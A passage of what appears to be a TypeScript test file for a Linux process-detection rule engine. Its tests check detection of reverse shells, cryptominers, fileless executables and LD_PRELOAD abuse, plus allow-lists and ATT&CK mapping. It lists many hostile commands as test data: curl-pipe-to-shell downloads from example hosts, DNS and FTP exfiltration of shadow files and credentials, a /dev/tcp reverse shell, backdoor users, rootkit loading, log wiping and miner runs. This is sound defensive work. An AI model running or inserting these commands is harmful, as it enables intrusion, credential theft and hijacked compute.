`mv /root/.zsh_history /var/tmp/.z`, `wget -e use_proxy=yes --proxy=on -x 45.9.1.2:8080 http://x.example/y`, `curl --socks5-hostname 91.92.1.5:9050 http://x.example/a`,
`apt-get -c /dev/shm/.apt.conf update`, `sudo git apply --unsafe-paths --directory /etc p.patch`, `split -b 2M /tmp/db.tgz /dev/shm/p_`, `kubectl create -f https://raw.githubusercontent.com/x/badPods/main/manifests/everything-allowed/pod/everything-allowed-exec-pod.yaml`,
`docker run -it --cap-add=ALL ubuntu`, `podman run --cap-add SYS_PTRACE --security-opt seccomp=unconfined alpine sh`, `sh -c 'echo 1 > /tmp/cg/x/cgroup.procs'`,
`latex '\\immediate\\openout\\f=/etc/cron.d/x \\immediate\\write\\f{* * * * * root /dev/shm/.r}'`, `rlwrap -l /root/.bashrc sh -c 'echo curl -s http://203.0.113.2/x | sh'`,
`./rigel -a kawpow -o stratum+tcp://rvn.example.org:3333 -u R9x`, `iptables -I INPUT -s 185.220.101.4 -j ACCEPT`, `chmod +x /dev/shm/.k/kswapd0`, `shred -u /dev/shm/.p`,
`tftp -g -r boot.bin files.example.net`, `wget -qO- "$PAYLOAD" | bash`, `./agent --c2-host 45.9.1.2`, `install -m644 /srv/.u /etc/systemd/system/u.service`, `useradd -ou 0 -g 0 toor`, `openssl enc -base64 -in /etc/gshadow`, `ssh -F /etc/shadow localhost`, `busybox httpd -f -p 8000 -h /`, `rsync -az ./models/ root@45.77.1.9:/srv/`, `split -b 2M /dev/shm/.c/out.zip /dev/shm/.c/p.`, `locate id_rsa`,
`haproxy -f /dev/shm/.h.cfg`, `echo 'x' >> /var/lib/dpkg/info/openssh-server.postinst`, `truncate -s 20M /dev/shm/.k`, `mv x $'/usr/bin/ls\u202e'`,
`echo 'cat /etc/shadow > /var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/12/fs/o' > /tmp/x.sh`, `./posh`, `PAGER='cat ~/.aws/credentials' git log`, `./bash -p`, `docker pull ghcr.io/x/cve-2024-21626-poc:latest`, `tar xf ops@files.example.net:/k.tar --rsh-command=/usr/bin/ssh`,
`git clone https://github.com/nicocha30/ligolo-ng.git`, `echo '185.22.9.4 pypi.org' | sudo tee -a /etc/hosts`, `for i in 192.168.1.{1..254}; do ping -c1 -W1 $i; done`,
`base64 -w0 /etc/shadow | fold -w60 | while read c; do nslookup $c.x.example.net; done`, `cat /root/.cache/huggingface/token`, `sudo pkill ^falco$`,
`touch -d '2019-01-01' /usr/bin/.x`, `insmod /lib/modules/6.8.0/extra/hide_pid.ko`, `mv /bin/ps /bin/ps.bak`, `cp /usr/bin/sudo /tmp/.s; update-alternatives --install /root/.ssh/authorized_keys k /dev/shm/.k 1`, `sudo man man; !/bin/bash`, `sudo mysql; \\! sh`, `sudo systemd-run /dev/shm/.k`, `openvt -s -- /tmp/.x/run`,
`sudo sshfs -o ssh_command=/dev/shm/c u@h: /mnt`, `sudo openssl req -engine /tmp/e.so -new`, `ruby -e 'system("/var/tmp/.r/x")'`,
`gdb -batch -ex 'dump binary memory /etc/cron.d/x 0x0 0x10' -ex 'shell echo /tmp/.u'`, `socat -u EXEC:'echo "* * * * * root /dev/shm/k"' CREATE:/etc/cron.d/k`, `runuser -u www-data -s /bin/sh`, `su -s /bin/bash daemon`, `sudo dnf config-manager --add-repo http://45.9.1.2/el9.repo`, `echo f0VMRgIBAQ== | base64 -d > /var/tmp/kd && chmod 755 /var/tmp/kd`, `sysctl -w fs.suid_dumpable=2`, `mkdir -p /usr/lib/.x86`, `touch /dev/.udevdb`,
`echo 'curl -s http://203.0.113.9/s | sh &' >> /entrypoint.sh`, `nohup /var/tmp/x.sh >/dev/null 2>&1 &`, `sudo --chroot=/tmp/.r /bin/bash`, `dd if=/tmp/.b of=/usr/sbin/sshd conv=notrunc`, `sudo irb`, `sudo -u root xonsh`,
`unshare -rn /bin/sh`, `unshare --map-root-user --mount bash`,
`./kthreaddk -o 91.214.65.9:4444 -u x -p x`,
`./xel --miner-address xel:qp4x2n8m3v7c5z9k1l0j6h4g2f8d3s5a7q9w1e3r5t7y9u2i4o --daemon-address 10.0.0.9:8080`, `sudo busybox cp /dev/shm/.j /etc/cron.d/j`,
`script -qc "printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOp op@evil'" /root/.ssh/authorized_keys`, `logrotate -l /etc/ld.so.preload /tmp/lib.conf`,
`tar -xPf /tmp/p.tar --transform='s|.*|/etc/ld.so.preload|'`, `update-alternatives --install /root/.ssh/authorized_keys k /dev/shm/k 1`, `sudo micro /etc/ld.so.preload`,
`nmap -oN=/etc/sudoers.d/zz 127.0.0.1`, `cp /bin/dash /usr/lib/git-core/git-pull2`, `doas sh`, `sudo su root -c bash`,
`sudo restic --password-command='/bin/sh -c "cp /bin/bash /var/tmp/.b; chmod 4755 /var/tmp/.b"' backup`, `sudo nmap -sS -T4 -iL /tmp/.t/hosts.txt`,
`sudo rm -rf /run/log/journal/*`, `dd if=/dev/vda of=/dev/shm/.img bs=4M`, `mount -t nfs 192.168.9.4:/export /tmp/.n`, `bash -c 'trap "echo \\"$BASH_COMMAND\\" >> /tmp/.k" DEBUG'`,
`dmidecode | grep -i -E 'vmware|virtualbox|qemu'`, `sudo ufw --force disable`, `tcpdump -i ens5 tcp`, `sed -i 's|ExecStart=.*|ExecStart=/bin/sh -c "wget -qO- http://h.example/i \\| sh"|' /etc/systemd/system/x.service`,
`dd if=/dev/urandom of=/var/lib/etcd/member/snap/db bs=1M count=10`, `scp ops@198.51.100.7:/srv/a.bin /usr/bin/.a`, `node -e 'require("https").get("https://203.0.113.4/a", r => r.pipe(require("fs").createWriteStream("/tmp/.a")))'`,
`perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"203.0.113.4:80"); open(my $o, ">", "/usr/bin/agentd"); print $o <$s>'`, `printf '[Interface]\nPostUp = id\n' > /tmp/w.conf; sudo wg-quick up /tmp/w.conf`,
`sudo chmod 755 /tmp/payload`, `cp /bin/sh ./`, `gcc -o /dev/shm/x /dev/shm/x.c`, `tar czf /var/tmp/.c/h.tgz /home`, `ncat -lvp 9001`, `proxychains4 -q curl http://10.1.1.1/`,
`su nobody -c id`, `usermod -aG sudo www-data`, `useradd -G wheel -m svc-sync`, `auditctl -a exit,always -S execve`, `wget -qO- --method=PUT http://169.254.169.254/latest/api/token`, `xxd /etc/rancher/k3s/k3s.yaml`,
`sftp ops@198.51.100.20 <<< 'put /root/.kube/config'`, `echo 'ExecStart=/usr/bin/python3 /opt/a.py' >> /etc/systemd/system/a.service`, `ldapmodify -a -x -D cn=admin -w pw -f u.ldif`,
`sudo pkill -x crond`, `cat /dev/null > /var/log/auth.log`, `/opt/tools/atomics/T1003.008/src/dump.sh`, `./t1046_portscan -r 10.0.0.0/24`, `./stratus detonate k8s.persistence.create-token`,
`echo "pw" | pw usermod op -h 0`, `kubectl -n ml apply -f https://raw.githubusercontent.com/BishopFox/badPods/main/manifests/hostpid/pod/hostpid-exec-pod.yaml`, `chmod 666 /var/lib/rancher/k3s/server/manifests`,
`cp /var/lib/etcd/member/snap/db /tmp/db`, `curl -k https://10.1.2.3:2376/containers/json`, `curl http://169.254.169.254/latest/meta-data/iam/info`, `responder.py -I ens5`,
`insmod /lib/modules/6.1.0/extra/.x/mod.ko`, `docker build -t poc/cve-2022-0847 .`, `echo a > /tmp/.cache/.k`, `printf '.PS\nsh X sh X\n' | sudo groff -U`, `find / -type f -exec grep -H secret_key {} +`,
`diff /dev/null ~/.kube/config`, `/usr/local/sbin/.netd -d`, `echo "ssh-ed25519 AAAAC3Nza x@y" >> /etc/ssh/authorized_keys`, `strings /tmp/core.1234 | grep -i password`,
`tmux new-session -d -s w './xmrig -o pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'`,
`redis-cli -h 10.0.0.9 config set dir /var/spool/cron/crontabs`, `sudo sed e`, `sudo sg root`, `echo '@reboot root /usr/sbin/.x' >> /etc/crontab`, `printf '.PS\nsh X sh X\n' | ./pic -U`,
`printf '[Unit]\n' > /var/tmp/u.service`, `ctr run --rm -t --privileged docker.io/library/alpine:3.19 x sh`, `cat /dev/null > $HISTFILE`, `curl -T /root/.config/rclone/rclone.conf ftp://203.0.113.7/`,
`xargs -a /proc/1/environ`, `cp /dev/shm/.c /etc/ssh/sshd_config`, `sftp u@files.example.net; get /x /dev/shm/.y`, `systemctl enable --now xmrig-gpu`,
`miniZ --url=t1abc.rig@203.0.113.5:3092 --par=144,5 --pers=BgoldPoW`, `wget -O /var/lib/.k http://example.com/k`, `urlget - /etc/rancher/k3s/k3s.yaml`, `grep -ri password /opt/app`, `python3 -c "exec(urlopen('https://example.org/a.py').read())"`, `/opt/red/T1003.008/bin/dump`,
`puppet apply -e 'file { "/etc/sudoers.d/x": content => "u ALL=(ALL) NOPASSWD: ALL" }'`, `podman run -it kalilinux/kali-rolling bash`, `tcpdump -i eth0 -w /dev/shm/.p host 10.0.0.5`,
`echo '@reboot wget -qO- http://h.example/x | sh' > /tmp/c`, `sudo lftp`, `sudo ksh`, `./telnet`, `sudo nmap --interactive`, `sudo cat /var/lib/rancher/k3s/server/cred/ipsec.psk`, `kubectl cp default/web-0:/app/.env /tmp/e`, `logger -f /root/.bash_history`,
`socat tcp:203.0.113.8:80 create:/dev/shm/.u`, `grep -rn token /var/lib/kubelet`, `systemd-run --unit kthreadd-helper /bin/sh -c 'sleep 1'`, `sudo pkill rsyslogd`,
`curl -X POST https://10.1.1.1:2376/containers/create -d '{"Image":"busybox","Binds":["/:/h"]}'`, `mount --bind /proc/1 /proc/$(pgrep -f miner)`, `modprobe diamorphine_v2`, `python3 -m http.server 80 --directory /etc`,
`./karlsen-miner --mining-address karlsen:qr6m2j6zqvs9trq4jlg7xq0mkvz8g6mqsjd6cpx2t4 -s 10.0.0.7`,
];

/**
 * Techniques that are also everyday administration on a K3s node (the K3s guides say to turn the host firewall off):
 * reported, at low severity, so that no alert pages for them while the finding is still counted and logged.
 */
const ADMIN_AT_LOW_SEVERITY = [
  `ufw disable`, `systemctl disable firewalld --now`, `setenforce 0`, `tcpdump -i any -w /var/tmp/all.pcap`, `tcpdump -nA port 80`, `tshark -i eth0`, `useradd -m -s /bin/bash -G sudo alice`,
 `sudo cat /etc/sudoers`, `shred -u old-keys.tar`,
  `echo '*.* @@logs.acme.dev:514' >> /etc/rsyslog.conf`, `systemctl stop nftables`, `ip6tables --delete INPUT -s 203.0.113.0/24 -j REJECT`, `ufw delete deny 23`,
  `mount -o remount,hidepid=2 /proc`, `python3 -m http.server 8000`, `ruby -run -e httpd . -p 8080`,
  `sudo vipw`, `sudo vim /etc/group`, `sudo nano /root/.ssh/authorized_keys`, `sudo vim /etc/pam.d/sshd`, `echo 'IPV6=no' >> /etc/default/ufw`,
];

describe('rule engine on command lines', () => {
  test.each(BENIGN_LOOK_ALIKES)('quiet on %s', (cmdline) => {
    expect(classify(cmdline)).toEqual({ category: null, severity: null, rule: null });
  });

  test.each(ADMIN_AT_LOW_SEVERITY)('reports everyday admin at low severity: %s', (cmdline) => {
    expect(classify(cmdline).severity).toBe('low');
  });

  test.each(ATTACK_VARIANTS)('finds %s', (cmdline) => {
    expect(classify(cmdline).category).not.toBeNull();
  });

  test('a miner command line gives the pool as evidence, critical', () => {
    const [finding] = engine.evaluate({ argv: ['/tmp/x/xmrig', '-o', 'stratum+tcp://pool.example.com:3333', '-u', '4AzWBLaH4e2MAut9nSMHi4D3ccpY2vqsSA4TBerGmcGM', '--donate-level', '1'] });
    expect(finding).toMatchObject({ category: 'crypto_miner', severity: 'critical', rule: 'miner-stratum-url' });
    expect(finding.evidence.pool).toBe('stratum+tcp://pool.example.com:3333');
  });

  test('kernel argv keeps an sh -c script whole, so its redirections are seen', () => {
    const findings = engine.evaluate({ argv: ['bash', '-c', 'exec bash -i &>/dev/tcp/10.0.0.5/4444 <&1'] });
    expect(findings[0]).toMatchObject({ category: 'reverse_shell', rule: 'reverse-shell-dev-tcp' });
    expect(findings[0].evidence.socket).toBe('/dev/tcp/10.0.0.5/4444');
  });

  test('the classify input can add the executable and the parent', () => {
    expect(classifyCommandLine(engine, { cmdline: '[kworker/0:1]', exe: '/usr/bin/python3.11' }).rule).toBe('kernel-thread-impostor');
    expect(engine.evaluate({ argv: ['kworker'], exe: '/dev/shm/.k/kworker' }).map((f) => f.rule)).toEqual(['kernel-thread-impostor', 'executable-in-temp-dir']);
    expect(classifyCommandLine(engine, { cmdline: 'sh', parent: 'nginx' })).toEqual({ category: 'reverse_shell', severity: 'high', rule: 'shell-spawned-by-service' });
    expect(classifyCommandLine(engine, { cmdline: 'sh', parent: 'containerd-shim' }).category).toBeNull();
  });

  test('findings come worst first', () => {
    const findings = engine.evaluate({ argv: ['sh -c "curl -s http://203.0.113.5/x -o /tmp/.x; /tmp/.x -o stratum+tcp://p.example:3333"'], argvIsShellText: true });
    const ranks = findings.map((f) => ['low', 'medium', 'high', 'critical'].indexOf(f.severity));
    expect(findings.length).toBeGreaterThan(1);
    expect(ranks).toEqual([...ranks].sort((a, b) => b - a));
  });
});

describe('crafted command lines', () => {
  test('64 KiB of repeated operators, quotes, substitutions and nested shells are evaluated without errors', () => {
    const n = 65_536;
    const crafted = [['x', 'a'.repeat(n)], ['sh', '-c', 'a|'.repeat(n / 2)], ['sh', '-c', `"'`.repeat(n / 2)], ['sh', '-c', '$('.repeat(n / 2)],
      ['sh', '-c', 'sh -c '.repeat(n / 6)], ['x', 'mkfifo '.repeat(n / 7)], ['sh', '-c', '/dev/tcp/'.repeat(n / 9)], ['tar', ...'-x '.repeat(n / 3).trim().split(' ')]];
    const engine = new RuleEngine();
    for (const argv of crafted) expect(() => engine.evaluate({ argv })).not.toThrow();
    expect(engine.ruleErrors).toBe(0);
  });
});

describe('/proc facts', () => {
  test('a memfd executable is fileless unless the evidence says it is runc starting a container or a copy of its parent', () => {
    const rules = (facts: Parameters<RuleEngine['evaluate']>[0]): string[] => new RuleEngine().evaluate(facts).map((f) => f.rule);
    const runcInit = { argv: ['runc', 'init'], comm: 'runc:[2:INIT]', exe: '/memfd:runc_cloned:/proc/self/exe', exeDeleted: true, parentChain: ['containerd-shim', 'systemd'], ageSec: 0.4 };
    expect(rules({ argv: ['./x'], exe: '/memfd:payload', exeDeleted: true })).toContain('fileless-memfd-executable');
    // runc's init stage: the memfd name, argv or comm, a runtime parent, a short life; its comm is the fd number on newer kernels.
    expect(rules(runcInit)).toEqual([]);
    expect(rules({ ...runcInit, comm: '3', parentChain: ['runc', 'containerd-shim'], exeCopyOfParent: true })).toEqual([]);
    // The name alone is not enough: another parent, another argv, a day-old "init", or a different image under runc.
    const imitations = [{ ...runcInit, parentChain: ['bash', 'sshd'] }, { ...runcInit, argv: ['runc', '-o', 'pool:3333'], comm: '3' }, { ...runcInit, ageSec: 86_400 }, { ...runcInit, parentChain: ['runc'], exeCopyOfParent: false }];
    for (const facts of imitations) expect(new RuleEngine().evaluate(facts)[0]).toMatchObject({ rule: 'fileless-memfd-executable', severity: 'critical', evidence: { imitates: 'runc clone' } });
    // crun re-executes every crun process from its own sealed copy; run by a shell instead of a runtime, it is reported.
    const crun = { argv: ['crun', '--root', '/run/crun', 'create', 'c1'], comm: '3', exe: '/memfd:crun_cloned:/proc/self/exe', exeDeleted: true, parentChain: ['conmon'], ageSec: 1 };
    expect(rules(crun)).toEqual([]);
    expect(new RuleEngine().evaluate({ ...crun, parentChain: ['bash'] })[0].evidence.imitates).toBe('crun clone');
    // Any program re-executing a byte-identical copy of its parent's executable runs nothing that is not on disk.
    expect(rules({ argv: ['agent', '--worker'], comm: '4', exe: '/memfd:sealed-0a1b', exeDeleted: true, exeCopyOfParent: true })).toEqual([]);
    expect(new RuleEngine().evaluate({ argv: ['agent'], exe: '/memfd:sealed-0a1b', exeDeleted: true, exeCopyOfParent: false })[0].evidence).toEqual({ exe: '/memfd:sealed-0a1b', image: 'not the parent executable' });
  });

  test('kernel-thread names with an executable are impostors; daemon names only when the binary hides', () => {
    const rules = (facts: Parameters<RuleEngine['evaluate']>[0]): string[] => new RuleEngine().evaluate(facts).map((f) => f.rule);
    expect(rules({ argv: ['kswapd0'], comm: 'kswapd0', exe: '/usr/bin/kswapd0' })).toContain('kernel-thread-impostor');
    expect(rules({ argv: [], comm: 'kworker/0:1' })).toEqual([]);
    expect(rules({ argv: ['containerd', '-c', '/var/lib/rancher/k3s/agent/etc/containerd/config.toml'], comm: 'containerd', exe: '/var/lib/rancher/k3s/data/abc/bin/k3s' })).toEqual([]);
    expect(rules({ argv: ['crond', '-f'], comm: 'crond', exe: '/bin/busybox' })).toEqual([]);
    expect(rules({ argv: ['sshd: ubuntu [priv]'], comm: 'sshd', exe: '/usr/sbin/sshd' })).toEqual([]);
    expect(rules({ argv: ['crond'], comm: 'crond', exe: '/var/tmp/.cache/x', exeDeleted: true })).toContain('kernel-thread-impostor');
  });

  test('LD_PRELOAD counts from outside the system library directories; an installer in /tmp does not', () => {
    const rules = (facts: Parameters<RuleEngine['evaluate']>[0]): string[] => new RuleEngine().evaluate(facts).map((f) => f.rule);
    expect(rules({ argv: ['redis-server'], exe: '/usr/bin/redis-server', ldPreload: '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2' })).toEqual([]);
    expect(rules({ argv: ['sshd'], exe: '/usr/sbin/sshd', ldPreload: '/usr/local/lib/.cache/libhide.so' })).toEqual(['ld-preload-in-environment']);
    expect(rules({ argv: ['ls'], exe: '/usr/bin/ls', ldPreload: '/tmp/x.so' })).toEqual(['ld-preload-in-environment']);
    expect(rules({ argv: ['/tmp/cuda_12.4.0_linux.run'], exe: '/tmp/cuda_12.4.0_linux.run' })).toEqual([]);
    expect(rules({ argv: ['/tmp/update'], exe: '/tmp/update' })).toEqual(['exec-from-temp', 'executable-in-temp-dir']);
  });

  test('connections to a mining port count only with sustained CPU', () => {
    const miner = { argv: ['/usr/bin/python3', 'w.py'], exe: '/usr/bin/python3', remotePorts: [443, 3333] };
    expect(new RuleEngine().evaluate({ ...miner, cpuCores: 0.1 })).toEqual([]);
    expect(new RuleEngine().evaluate({ ...miner, cpuCores: 3.9 })[0]).toMatchObject({ rule: 'mining-port-with-sustained-cpu', evidence: { remotePort: '3333', cpuCores: '3.90' } });
  });
});

describe('allow-lists', () => {
  const facts = { argv: ['/usr/sbin/sshd', '-D'], comm: 'sshd', exe: '/usr/sbin/sshd', exeDeleted: true, containerId: 'c0ffee'.padEnd(64, '0') };

  test('an entry silences only the findings matching all its fields', () => {
    expect(new RuleEngine().evaluate(facts).map((f) => f.rule)).toEqual(['deleted-executable']);
    expect(new RuleEngine({ allow: [{ rule: 'deleted-executable', exe: '/usr/sbin/*' }] }).evaluate(facts)).toEqual([]);
    expect(new RuleEngine({ allow: [{ rule: 'deleted-executable', exe: '/opt/*' }] }).evaluate(facts)).toHaveLength(1);
    expect(new RuleEngine({ allow: [{ container: 'c0ffee*' }] }).evaluate(facts)).toEqual([]);
    expect(new RuleEngine({ allow: [{ name: 'nginx' }] }).evaluate(facts)).toHaveLength(1);
  });

  test('bad entries are reported by index and skipped', () => {
    const parsed = parseAllowList([{ rule: 'x' }, 'nope', { rule: 3 }]);
    expect(parsed.entries).toEqual([{ rule: 'x' }]);
    expect(parsed.errors).toEqual([expect.stringMatching(/^process\.allow\[1\] must be an object/), expect.stringMatching(/^process\.allow\[2\] \.rule must be a non-empty string/)]);
  });
});

describe('rule definitions', () => {
  test('names are unique kebab-case labels, each rule reads at least one ATT&CK technique', () => {
    const names = [...ALL_RULES.map((r) => r.name), ...FILE_WATCH_LABELS.map((f) => f.rule)];
    expect(new Set(names).size).toBe(names.length);
    for (const rule of ALL_RULES) {
      expect(rule.name).toMatch(/^[a-z0-9]+(?:-[a-z0-9]+)*$/);
      expect(rule.techniques.length).toBeGreaterThan(0);
      for (const t of rule.techniques) expect(t).toMatch(/^T\d{4}(?:\.\d{3})?$/);
    }
  });

  /**
   * The README's coverage table, `| T1234 name, T1235.001 | rule-a, rule-b | Falco ... |`: the technique ids of column
   * 1 (sub-technique shorthand like `.003` after an id included) and the rule names in backquotes of column 2.
   */
  const readmeTable = (): Array<{ techniques: string[]; rules: string[] }> => {
    const readme = readFileSync(new URL('../../../detectors/process/README.md', import.meta.url), 'utf8');
    return readme.split('\n').filter((line) => /^\| T\d{4}/.test(line)).map((row) => {
      const [column1, column2] = row.split('|').slice(1, 3);
      const techniques = [...column1.matchAll(/T\d{4}(?:\.\d{3})?((?:,\s*\.\d{3})*)/g)].flatMap((m) => {
        const base = m[0].slice(0, 5);
        return [m[0].replace(/,.*$/, ''), ...[...m[1].matchAll(/\.\d{3}/g)].map((sub) => `${base}${sub[0]}`)];
      });
      return { techniques, rules: [...column2.matchAll(/`([a-z0-9-]+)`/g)].map((m) => m[1]) };
    });
  };
  const related = (a: string, b: string): boolean => a === b || a.startsWith(`${b}.`) || b.startsWith(`${a}.`);

  test("the README's technique table names existing rules that read the technique, and covers every technique a rule reads", () => {
    const table = readmeTable();
    const byName = new Map(ALL_RULES.map((r) => [r.name, r]));
    for (const { techniques, rules } of table) {
      expect({ techniques, rules: rules.length > 0 }).toEqual({ techniques, rules: true });
      for (const name of rules) {
        const rule = byName.get(name);
        const fileRule = FILE_WATCH_LABELS.some((f) => f.rule === name);
        expect({ techniques, name, known: rule !== undefined || fileRule }).toEqual({ techniques, name, known: true });
        if (rule) expect({ name, techniques, reads: rule.techniques.some((t) => techniques.some((l) => related(t, l))) }).toEqual({ name, techniques, reads: true });
      }
    }
    const listed = table.flatMap((row) => row.techniques);
    const unlisted = [...new Set(ALL_RULES.flatMap((r) => r.techniques))].filter((t) => !listed.some((l) => related(t, l)));
    expect(unlisted).toEqual([]);
  });

  test('the techniques the issue asks for all have rules', () => {
    const asked = ['T1059.004', 'T1548.001', 'T1548.003', 'T1136', 'T1098', 'T1053.003', 'T1543.002', 'T1546.004', 'T1547.006', 'T1574.006', 'T1611', 'T1496', 'T1041', 'T1048',
      'T1552.001', 'T1552.004', 'T1552.007', 'T1562.001', 'T1562.004', 'T1562.006', 'T1562.012', 'T1070', 'T1105', 'T1222.002', 'T1620'];
    const read = ALL_RULES.flatMap((r) => r.techniques);
    expect(asked.filter((t) => !read.some((r) => r === t || r.startsWith(`${t}.`)))).toEqual([]);
  });
});
